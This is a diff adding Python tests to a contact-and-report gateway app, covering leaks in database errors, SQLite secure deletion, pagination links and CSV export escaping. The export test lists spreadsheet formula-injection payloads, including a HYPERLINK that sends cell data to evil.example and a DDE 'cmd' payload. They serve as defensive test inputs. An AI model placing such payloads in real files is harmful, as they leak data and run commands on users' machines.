@@ -195,3 +195,135 @@ def test_status_changes_by_organizers_are_audited(app, client, auth) -> None:
         ("contact.status.refused", {"contact_id": by_status["stopped"], "old": "stopped", "new": "active"}),
         ("contact.status", {"contact_id": by_status["active"], "old": "active", "new": "blocked"})]
 
+
+
+# -- H3 (part), M9: the database layer keeps values out of errors and off the disk ---------------
+
+def test_database_errors_name_no_values(app) -> None:
+    """An error from the database (logged, and kept by RQ) carries the SQL but not the values bound to it."""
+    import sqlalchemy as sa
+
+    words = "the nurse at Zomba clinic asked me for 5000 kwacha"
+    engine = app.extensions["gateway"].engine
+    insert = sa.text("INSERT INTO users (email, password_hash, role, active, failed_logins, created_at) "
+                     "VALUES (:e, :p, 'viewer', true, 0, :t)")
+    values = {"e": "x@example.org", "p": words, "t": datetime(2026, 1, 1)}
+    with engine.begin() as conn:
+        conn.execute(insert, values)
+    with pytest.raises(sa.exc.IntegrityError) as caught, engine.begin() as conn:
+        conn.execute(insert, values)  # the same email again
+    assert "INSERT INTO users" in str(caught.value) and words not in str(caught.value)
+
+
+def test_sqlite_overwrites_what_is_blanked(tmp_path) -> None:  # type: ignore[no-untyped-def]
+    """Blanked report words leave no copy in the file's free space, even where SQLite's build default
+    is secure_delete off (simulated here: the raw connection starts with it off)."""
+    import sqlite3
+
+    import sqlalchemy as sa
+
+    from gateway.db import make_engine
+
+    path = tmp_path / "gateway.db"
+
+    def connect_with_secure_delete_off() -> sqlite3.Connection:
+        conn = sqlite3.connect(str(path), timeout=30, check_same_thread=False)
+        conn.execute("PRAGMA secure_delete=OFF")
+        return conn
+
+    def checkpoint() -> None:
+        raw = engine.raw_connection()  # outside a transaction: a checkpoint cannot run inside one
+        raw.driver_connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # type: ignore[union-attr]
+        raw.close()
+
+    words = "Nurse at Zomba clinic asked for money. "
+    engine = make_engine(f"sqlite:///{path}", creator=connect_with_secure_delete_off)
+    try:
+        with engine.begin() as conn:
+            conn.execute(sa.text("CREATE TABLE m (id INTEGER PRIMARY KEY, body TEXT)"))
+            conn.execute(sa.text("INSERT INTO m (body) VALUES (:b)"), [{"b": words * 3 + str(i)} for i in range(20)])
+        checkpoint()
+        assert words.encode() in path.read_bytes()
+        with engine.begin() as conn:
+            conn.execute(sa.text("UPDATE m SET body = NULL"))  # as an anonymous report's messages are blanked
+        checkpoint()
+    finally:
+        engine.dispose()
+    assert words.encode() not in path.read_bytes()
+
+
+# -- L2: page links take only the filter's own query arguments ------------------------------------
+
+def _many(app, n_contacts: int = 51, n_messages: int = 0) -> int:  # type: ignore[no-untyped-def]
+    """Enough supporters (and messages of the first) for a second page; the first contact's id."""
+    from gateway.contacts import new_contact
+    from gateway.models import Message, utcnow
+
+    with app.extensions["gateway"].sessions() as s, s.begin():
+        contacts = [new_contact(s, f"+26599{i:07d}", place="Zomba") for i in range(n_contacts)]
+        s.add_all(contacts)
+        s.flush()
+        s.add_all(Message(direction="in", contact_id=contacts[0].id, provider="console", body=f"text {i}",
+                          status="handled", created_at=utcnow()) for i in range(n_messages))
+        return contacts[0].id
+
+
+@pytest.mark.parametrize("query", [
+    "_method=POST", "_external=1", "_anchor=x", "_scheme=javascript", "endpoint=x", "values=1", "place=Zomba&page=1",
+])
+def test_page_links_ignore_url_for_arguments(app, client, auth, query: str) -> None:
+    """`?_method=X` was a 500, `?_external=1` or `?_anchor=` rewrote the links; now only filters are kept."""
+    _many(app)
+    auth.login("viewer")
+    response = client.get(f"/supporters?{query}")
+    assert response.status_code == 200, query
+    link = re.search(r'href="([^"]+)" rel="next"', response.get_data(as_text=True)).group(1)  # type: ignore[union-attr]
+    assert link.startswith("/supporters?") and "#" not in link and "//" not in link, link
+    assert "page=2" in link and ("place=Zomba" in link) == ("place=Zomba" in query), link
+
+
+def test_a_page_argument_named_like_the_route_argument_is_not_a_500(app, client, auth) -> None:
+    contact_id = _many(app, n_contacts=2, n_messages=51)
+    auth.login("viewer")
+    response = client.get(f"/supporters/{contact_id}?contact_id=999&_anchor=x")
+    assert response.status_code == 200
+    link = re.search(r'href="([^"]+)" rel="next"', response.get_data(as_text=True)).group(1)  # type: ignore[union-attr]
+    assert link.startswith(f"/supporters/{contact_id}?") and "999" not in link and "#" not in link, link
+
+
+# -- L6: no export lets a cell run as a spreadsheet formula -----------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+            "\tTAB", "\rCR", "\uff1dHYPERLINK(1)"]
+
+
+def _cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
+
+
+def test_no_export_cell_starts_a_formula(app, client, runner, auth) -> None:
+    """Tags, names, places and report texts (imports and the API write them) reach four exports."""
+    from gateway.contacts import add_tags, new_contact
+    from gateway.models import Report
+
+    with app.extensions["gateway"].sessions() as s, s.begin():
+        contact = new_contact(s, "+265991234567", name=FORMULAS[3], place=FORMULAS[1], language="en")
+        s.add(contact)
+        add_tags(s, contact, FORMULAS)
+        s.add_all(Report(ref=f"R{i}", service=text[:40], service_detail=text, place=text, details=text, language="en",
+                         delivered="no", country="MW", created_at=datetime(2026, 3, 4)) for i, text in enumerate(FORMULAS))
+    auth.login("organizer")
+    exports = {
+        "console supporters": client.get("/supporters/export").get_data(as_text=True),
+        "console reports": client.get("/reports/export").get_data(as_text=True),
+        "cli contacts": runner.invoke(args=["contacts", "export"]).output,
+        "cli reports": runner.invoke(args=["reports", "export"]).output,
+    }
+    for name, text in exports.items():
+        cells = _cells(text)
+        assert "'@sum(1)" in text.lower() or "reports" in name, (name, text)
+        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d") and c != "+265991234567"]
+        assert risky == [], (name, risky)
